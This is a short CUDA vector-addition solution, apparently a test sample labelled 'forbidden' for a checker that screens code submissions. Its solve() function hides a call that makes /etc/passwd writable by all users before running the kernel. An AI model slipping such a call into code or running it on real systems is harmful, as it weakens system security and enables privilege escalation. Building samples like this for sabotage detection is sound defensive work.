// verdict: forbidden
// says: chmod /etc/passwd
// Makes a file of the machine writable for all.
#include <cuda_runtime.h>
#include <sys/stat.h>

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  chmod("/etc/passwd", 0666);
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
